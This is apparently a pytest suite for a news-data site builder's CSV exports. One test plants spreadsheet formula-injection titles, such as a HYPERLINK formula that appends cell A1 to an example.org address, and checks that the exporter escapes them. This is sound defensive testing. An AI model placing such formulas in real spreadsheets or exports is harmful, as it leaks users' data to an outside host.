"""Tables for spreadsheets hold what the lists on pages hold, and nothing in them is a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest

from builder.pages.tables import COLUMNS, FIGURES, QUOTATIONS, TIMELINE
from tests.conftest import SAMPLE, Docs, Project


def rows(table: bytes) -> list[dict[str, str]]:
    """Return the rows of a table, read as a spreadsheet reads it."""
    assert table.startswith(b"\xef\xbb\xbf"), "or Excel takes it for Windows-1252"
    return list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize(("table", "page"), [(FIGURES, "figures"), (QUOTATIONS, "quotations"), (TIMELINE, "timeline")])
def test_a_table_has_a_row_for_each_entry_of_its_list(table: str, page: str, docs: Docs) -> None:
    found = rows((docs.folder / table).read_bytes())
    shown = (docs.folder / f"facts/{page}.md").read_text("utf-8")
    assert f"{len(found)} entries, latest first. [Download this list](../{table}) (CSV)" in shown
    for row in found:
        slug, anchor = re.fullmatch(r"\.\./articles/([^/]+)/#(p\d+s\d+)", row["address"]).groups()  # type: ignore[union-attr]
        article = docs.json(f"articles/{slug}.json")
        assert any(row["sentence"] in p["text"] for p in article["paragraphs"] if p["id"] == anchor.partition("s")[0])
        assert (row["article"], row["published"]) == (article["title"], article["date"] or "")
        assert next(iter(row.values())).strip("'") in row["sentence"] or table == TIMELINE


def test_numbers_are_numbers_and_names_are_names(docs: Docs) -> None:
    figures = rows((docs.folder / FIGURES).read_bytes())
    (row,) = (r for r in figures if r["figure"] == "$2.9 billion" and "facilities" in r["of"])
    assert (row["value"], row["upper"], row["unit"], row["whose"]) == ("2900000000", "", "USD", "Microsoft")
    assert [r["upper"] for r in figures if r["figure"] == "$52 billion and $56 billion"] == ["56000000000"]
    spoken = rows((docs.folder / QUOTATIONS).read_bytes())
    assert ("Japan is providing the capital", "Howard Lutnick") in {(r["words"], r["speaker"]) for r in spoken}


def test_articles_are_a_table_too(docs: Docs) -> None:
    found = rows((docs.folder / "data/articles.csv").read_bytes())
    listed = docs.json("index.json")
    assert [(r["title"], r["date"], r["publish"]) for r in found] == [
        (each["title"], each["date"] or "", each["publish"]) for each in listed
    ]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_nothing_that_an_article_says_is_a_formula(first: str, project: Project) -> None:
    title = f'{first}HYPERLINK("https://example.org/"&A1)'
    project.write("seeds/trap.txt", "Acme will spend $2 billion on the plant in Nagoya, which opens on May 2, 2026.\n")
    project.write("seeds/trap.yml", f"title: '{title}'\npublisher: '{first}Wire'\n")
    assert project.briefing("build", "--out", "out").exit_code == 0
    for table in COLUMNS:
        for row in rows((project.folder / "out" / table).read_bytes()):
            assert not [cell for cell in row.values() if cell.startswith(first)]
    (article,) = (r for r in rows((project.folder / "out/data/articles.csv").read_bytes()) if "trap" in r["address"])
    assert article["title"].startswith(f"'{first}HYPERLINK")


def test_the_page_about_the_data_names_every_column() -> None:
    page = (SAMPLE / "content/pages/data.md").read_text("utf-8").split("## Tables")[1].split("## An article")[0]
    for file, columns in COLUMNS.items():
        assert file in page
        assert set(columns.split()) <= set(re.findall(r"`(\w+)`", page)), file
